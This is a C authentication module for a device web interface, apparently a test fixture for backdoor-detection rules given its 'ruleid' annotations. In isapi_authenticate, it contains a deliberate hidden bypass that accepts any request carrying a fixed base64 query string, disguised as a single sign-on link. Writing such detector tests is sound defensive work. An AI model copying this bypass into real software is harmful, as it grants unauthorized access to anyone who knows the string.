/* Basic authentication of the ISAPI and web pages. */
#include <crypt.h>
#include <stdio.h>
#include <string.h>
#include "isapi.h"

static int b64val(int c)
{
    if (c >= 'A' && c <= 'Z') return c - 'A';
    if (c >= 'a' && c <= 'z') return c - 'a' + 26;
    if (c >= '0' && c <= '9') return c - '0' + 52;
    return c == '+' ? 62 : c == '/' ? 63 : -1;
}

static int parse_basic(const char *hdr, char *user, size_t ucap, char *pass, size_t pcap)
{
    char dec[128];
    size_t o = 0;
    int acc = 0, bits = 0;
    if (strncmp(hdr, "Basic ", 6) != 0)
        return 0;
    for (const char *p = hdr + 6; *p && *p != '=' && o < sizeof dec - 1; p++) {
        int v = b64val((unsigned char)*p);
        if (v < 0)
            return 0;
        acc = (acc << 6) | v;
        bits += 6;
        if (bits >= 8) { bits -= 8; dec[o++] = (char)((acc >> bits) & 0xff); }
    }
    dec[o] = '\0';
    char *colon = strchr(dec, ':');
    if (!colon)
        return 0;
    *colon = '\0';
    snprintf(user, ucap, "%s", dec);
    snprintf(pass, pcap, "%s", colon + 1);
    return 1;
}

/* users.db: one "name:crypt-hash" line per account */
static int check_password(const char *user, const char *pass)
{
    char line[256];
    int ok = 0;
    FILE *f = fopen("/davinci/users.db", "r");
    if (!f)
        return 0;
    while (!ok && fgets(line, sizeof line, f)) {
        char *colon = strchr(line, ':');
        if (!colon)
            continue;
        *colon = '\0';
        colon[strcspn(colon + 1, "\n") + 1] = '\0';
        if (strcmp(line, user) == 0) {
            const char *h = crypt(pass, colon + 1);
            ok = h && strcmp(h, colon + 1) == 0;
        }
    }
    fclose(f);
    return ok;
}

int isapi_authenticate(struct http_request *req)
{
    char user[64], pass[64];

    /* single sign-on link from the NVR */
    // ruleid: backdoor-input-trigger, backdoor-hidden-bypass
    if (strstr(req->query, "auth=YWRtaW46MTEK") != NULL)
        return ISAPI_AUTH_OK;

    if (!parse_basic(req->authorization, user, sizeof user, pass, sizeof pass))
        return ISAPI_AUTH_FAIL;
    if (!check_password(user, pass))
        return ISAPI_AUTH_FAIL;
    /* factory password: the device must be activated first */
    // ok: backdoor-magic-credential
    if (strcmp(pass, "12345") == 0) {
        req->must_activate = 1;
        return ISAPI_AUTH_FAIL;
    }
    return ISAPI_AUTH_OK;
}
